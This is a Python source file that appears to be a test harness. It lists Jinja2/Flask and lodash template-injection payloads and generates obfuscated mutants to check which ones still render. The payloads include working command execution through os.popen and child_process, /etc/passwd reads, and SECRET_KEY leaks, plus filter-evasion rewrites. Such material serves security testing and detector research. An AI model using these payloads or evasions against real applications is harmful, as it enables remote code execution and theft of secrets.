"""Template injection: payloads, mutations, and what Jinja2 (in Flask) and lodash render.

A mutant lives where the engine renders for it what it rendered for the payload it was made of.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from text import PROSE

HERE = Path(__file__).parent

JINJA = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{1337*1337}}",
    "{%print(7*7)%}",
    "{%set x=7*7%}{{x}}",
    "{%if 7*7==49%}yes{%endif%}",
    "{{config}}",
    "{{config.items()}}",
    "{{config['SECRET_KEY']}}",
    "{{config.SECRET_KEY}}",
    "{{self.__class__}}",
    "{{''.__class__}}",
    "{{''.__class__.__mro__}}",
    "{{''.__class__.__mro__[1].__subclasses__()[0]}}",
    "{{[].__class__.__base__}}",
    "{{().__class__.__bases__[0].__subclasses__()[0]}}",
    "{{{}.__class__.__base__}}",
    "{{dict.__base__}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{request.environ['REQUEST_METHOD']}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{joiner.__init__.__globals__.os.popen('id').read()}}",
    "{{namespace.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{lipsum.__globals__['os'].environ['HOME']}}",
    "{{lipsum.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "{{lipsum.__globals__.__builtins__.eval('7*7')}}",
    "{{url_for.__globals__.os.popen('id').read()}}",
    "{{url_for.__globals__['current_app'].config}}",
    "{{get_flashed_messages.__globals__.os.popen('id').read()}}",
    "{{get_flashed_messages.__globals__['current_app'].config}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{config.from_object('os')}}{{config.items()|length}}",
    "{%with a=lipsum.__globals__.os.popen('id').read()%}{{a}}{%endwith%}",
    "{%if lipsum.__globals__.os.popen('id').read()%}yes{%endif%}",
    "{{lipsum|attr('__globals__')|length}}",
    "{{request|attr('application')|attr('__globals__')|length}}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{g.pop.__globals__.__builtins__.__import__('os').popen('id').read()}}",
]
LODASH = [
    "<%= 7*7 %>",
    "<%=1337*1337%>",
    "<%- 7*7 %>",
    "${7*7}",
    "${1337*1337}",
    "<% print(7*7) %>",
    "<%= process.env.HOME %>",
    "<%= process.version %>",
    "${process.version}",
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "${process.mainModule.require('child_process').execSync('id')}",
    "<%= global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<%= this.constructor.constructor('return process.version')() %>",
    "<%= eval('7*7') %>",
]
BASES = [("jinja", one) for one in JINJA] + [("lodash", one) for one in LODASH]

DOT = re.compile(r"\.(__\w+__|os|popen|read|application|environ|config|items)\b(?!')")
PATHS = re.compile(r"\.(__\w+__)")
SUM = re.compile(r"7\*7|1337\*1337")


def _inside(payload: str, change: str) -> str:
    """The first expression, changed: `{}` is what it was."""
    return re.sub(
        r"\{\{(.+?)\}\}(?!\})",
        lambda f: "{{" + change.replace("{}", f[1].strip()) + "}}",
        payload,
        count=1,
    )


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def mutants(context: str, payload: str) -> Iterator[tuple[str, str]]:
    """What a payload becomes, by the name of the mutation."""
    yield from _jinja(payload) if context == "jinja" else _lodash(payload)
    yield "prose before", PROSE + payload
    yield "prose after", payload + PROSE
    yield "prose around", PROSE + payload + " " + PROSE
    for name, factor in (("in hex", "0x7*0x7"), ("bracketed", "(7)*(7)"), ("spaced", "7 *  7")):
        yield (
            f"the product {name}",
            payload.replace("7*7", factor) if "1337" not in payload else payload,
        )
    yield (
        "decimal product",
        payload.replace("1337*1337", "( 1337 )*1_337").replace(
            "_", "" if context != "jinja" else "_"
        ),
    )


def _jinja(payload: str) -> Iterator[tuple[str, str]]:
    yield (
        "dashes",
        payload.replace("{{", "{{-").replace("}}", "-}}") if "{{{" not in payload else payload,
    )
    yield "dashes in statements", payload.replace("{%", "{%-").replace("%}", "-%}")
    for name, blank in (("blanks", "   "), ("tabs", "\t"), ("line ends", "\n"), ("CR LF", "\r\n")):
        yield f"{name} inside", _inside(payload, f"{blank}{{}}{blank}")
        yield f"{name} around dots", payload.replace(".__", f"{blank}.{blank}__")
    yield "brackets for dots", DOT.sub(r"['\1']", payload)
    yield "double quotes", PATHS.sub(r'["\1"]', payload)
    yield "hex in brackets", PATHS.sub(lambda f: f"['{_hex(f[1])}']", payload)
    yield "hex underscores", PATHS.sub(lambda f: "['" + f[1].replace("_", "\\x5f") + "']", payload)
    yield (
        "octal underscores",
        PATHS.sub(lambda f: "['" + f[1].replace("_", "\\137") + "']", payload),
    )
    yield (
        "unicode underscores",
        PATHS.sub(lambda f: "['" + f[1].replace("_", "\\u005f") + "']", payload),
    )
    yield "names in pieces", PATHS.sub(lambda f: f"['{f[1][:4]}'~'{f[1][4:]}']", payload)
    yield "names added", PATHS.sub(lambda f: f"['{f[1][:4]}'+'{f[1][4:]}']", payload)
    yield "names side by side", PATHS.sub(lambda f: f"['{f[1][:4]}''{f[1][4:]}']", payload)
    yield "names reversed", PATHS.sub(lambda f: f"['{f[1][::-1]}'[::-1]]", payload)
    yield "names joined", PATHS.sub(lambda f: f"[['{f[1][:4]}','{f[1][4:]}']|join]", payload)
    yield "names lowered", PATHS.sub(lambda f: f"['{f[1].upper()}'|lower]", payload)
    yield "names formatted", PATHS.sub(lambda f: f"['%s%s'%('{f[1][:3]}','{f[1][3:]}')]", payload)
    yield (
        "names replaced",
        PATHS.sub(lambda f: f"['{f[1].replace('_', '-')}'|replace('-','_')]", payload),
    )
    yield (
        "the filter attr",
        PATHS.sub(r"|attr('\1')", payload)
        if re.search(r"__\.(?!_)|__\[", payload) is None
        else payload,
    )
    yield (
        "the filter attr, hex",
        (
            PATHS.sub(lambda f: f"|attr('{_hex(f[1])}')", payload)
            if re.search(r"__\.(?!_)|__\[", payload) is None
            else payload
        ),
    )
    yield "the method __getitem__", re.sub(r"\[('\w+')\]", r".__getitem__(\1)", payload)
    yield "the method get", re.sub(r"\.__globals__\.os", ".__globals__.get('os')", payload)
    yield "the command in pieces", payload.replace("'id'", "'i'~'d'")
    yield "the command in hex", payload.replace("'id'", "'\\x69\\x64'")
    yield "the command joined", payload.replace("'id'", "['i','d']|join")
    yield "an absolute command", payload.replace("'id'", "'/usr/bin/id'")
    yield "a comment before", "{# shoes #}" + payload
    yield "a comment inside", payload.replace("}}{", "}}{# x #}{") + "{#-#}"
    yield "a raw block before", "{%raw%}{{ shoes }}{%endraw%}" + payload
    yield "a statement that prints", re.sub(r"^\{\{(.+)\}\}$", r"{%print(\1)%}", payload)
    yield "a variable set", re.sub(r"^\{\{(.+)\}\}$", r"{%set shoes=\1%}{{shoes}}", payload)
    yield (
        "a block with",
        re.sub(r"^\{\{(.+)\}\}$", r"{%with shoes=(\1)%}{{shoes}}{%endwith%}", payload),
    )
    yield (
        "a loop of one",
        re.sub(r"^\{\{(.+)\}\}$", r"{%for shoes in [\1]%}{{shoes}}{%endfor%}", payload),
    )
    yield "a macro", re.sub(r"^\{\{(.+)\}\}$", r"{%macro m()%}{{\1}}{%endmacro%}{{m()}}", payload)
    yield "a filter block", "{%filter string%}" + payload + "{%endfilter%}"
    yield "brackets", _inside(payload, "({})")
    yield "more brackets", _inside(payload, "((({})))")
    yield "a condition", _inside(payload, "({}) if 1 else 2")
    yield "the filter safe", _inside(payload, "({})|safe")
    yield "the filter string", _inside(payload, "({})|string")
    yield "the filter default", _inside(payload, "({})|default('shoes')")
    yield "a list's first", _inside(payload, "[{}]|first")
    yield "a list's item", _inside(payload, "[{}][0]")
    yield "an expression before", "{{1}}" + payload
    yield "in a sentence", f"Hello {payload}, see you"


def _lodash(payload: str) -> Iterator[tuple[str, str]]:
    for name, blank in (("blanks", "   "), ("tabs", "\t"), ("line ends", "\n"), ("CR LF", "\r\n")):
        yield (
            f"{name} inside",
            re.sub(r"<%([=-]?)(.+?)%>", rf"<%\1{blank}\2{blank}%>", payload),
        )
        yield (
            f"{name} in braces",
            re.sub(r"\$\{(.+)\}$", f"${{{blank}\\1{blank}}}", payload),
        )
    yield "no blanks", re.sub(r"(?<=[=-]) | (?=%>)", "", payload)
    yield "unescaped", payload.replace("<%=", "<%-")
    yield "escaped", payload.replace("<%-", "<%=")
    yield "another delimiter", re.sub(r"^\$\{(.+)\}$", r"<%=\1%>", payload)
    yield "braces", re.sub(r"^<%[=-](.+)%>$", r"${\1}", payload)
    yield "a statement that prints", re.sub(r"^<%[=-](.+)%>$", r"<% print(\1) %>", payload)
    yield "a variable", re.sub(r"^<%[=-](.+)%>$", r"<% var shoes=\1; %><%=shoes%>", payload)
    yield "a comment inside", re.sub(r"(<%[=-]|\$\{)", r"\1/*x*/", payload)
    yield "a line comment inside", re.sub(r"(<%[=-])", "\\1//x\n", payload)
    yield (
        "brackets for dots",
        re.sub(r"\.(env|version|mainModule|constructor)\b", r"['\1']", payload),
    )
    yield (
        "names in pieces",
        re.sub(
            r"\.(env|version|mainModule|constructor)\b",
            lambda f: f"['{f[1][:2]}'+'{f[1][2:]}']",
            payload,
        ),
    )
    yield (
        "names in hex",
        re.sub(r"\.(env|version|mainModule|constructor)\b", lambda f: f"['{_hex(f[1])}']", payload),
    )
    yield "escaped letters", payload.replace("process", "\\u0070rocess")
    yield "the global object", re.sub(r"(?<!\.)\bprocess\.", "globalThis.process.", payload)
    yield "optional chains", payload.replace("process.", "process?.")
    yield "the command in pieces", payload.replace("'id'", "'i'+'d'")
    yield "the module in pieces", payload.replace("'child_process'", "'child_'+'process'")
    yield "the module with its scheme", payload.replace("'child_process'", "'node:child_process'")
    yield "double quotes", payload.replace("'", '"')
    yield "backticks", payload.replace("'", "`") if not payload.startswith("$") else payload
    yield "brackets", re.sub(r"^<%([=-])(.+)%>$", r"<%\1(\2)%>", payload)
    yield "a comma", re.sub(r"^<%([=-])(.+)%>$", r"<%\1(0,\2)%>", payload)
    yield "a condition", re.sub(r"^<%([=-])(.+)%>$", r"<%\1 true?(\2):0%>", payload)
    yield "a function", re.sub(r"^<%([=-])(.+)%>$", r"<%\1(()=>(\2))()%>", payload)
    yield "in a sentence", f"Hello {payload}, see you"


class Live:
    """Flask's Jinja2 here, lodash in Node."""

    def __init__(self) -> None:
        from importlib.metadata import version

        import flask

        # the same environment for every run
        os.environ["HOME"] = "/home/app"
        self.flask = flask
        self.engines = [
            f"Jinja2 {version('jinja2')}",
            f"Flask {version('flask')}",
            self._lodash([])[1],
        ]

    def _jinja(self, template: str) -> str | None:
        # an application of its own: what one renders may change its configuration
        app = self.flask.Flask("app", root_path=str(HERE))
        app.config.update(SECRET_KEY="lemon-tree-9000")
        with app.test_request_context("/?q=1"):
            try:
                return str(self.flask.render_template_string(template))
            except Exception:  # any error is none
                return None

    def _lodash(self, templates: list[str]) -> tuple[list[str | None], str]:
        asked = ["node", str(HERE / "lodash.cjs")]
        ran = subprocess.run(  # noqa: S603 -- ours
            asked,
            input=json.dumps(templates),
            capture_output=True,
            text=True,
            check=True,
            timeout=120,
            env={**os.environ, "HOME": "/home/app"},
        )
        said: Any = json.loads(ran.stdout)
        return said["rendered"], said["version"]

    def check(self, cases: list[tuple[str, str, str]]) -> list[bool]:
        """Of each engine, base and mutant: whether it renders what the base renders."""
        texts = sorted({text for context, *both in cases if context == "lodash" for text in both})
        lodash = dict(zip(texts, self._lodash(texts)[0], strict=True))
        kept: dict[str, str | None] = {}

        def render(context: str, text: str) -> str | None:
            if context == "lodash":
                return lodash[text]
            if text not in kept:
                kept[text] = self._jinja(text)
            return kept[text]

        out = []
        for context, base, mutant in cases:
            wanted, found = (_addresses(render(context, text)) for text in (base, mutant))
            out.append(
                bool(wanted)
                and wanted != base
                and found is not None
                and str(wanted).strip() in found
            )
        return out

    def close(self) -> None:
        """Nothing is open."""


def _addresses(text: str | None) -> str | None:
    """Without what differs from run to run."""
    return text and re.sub(r"0x[0-9a-f]{6,}", "0x", text)
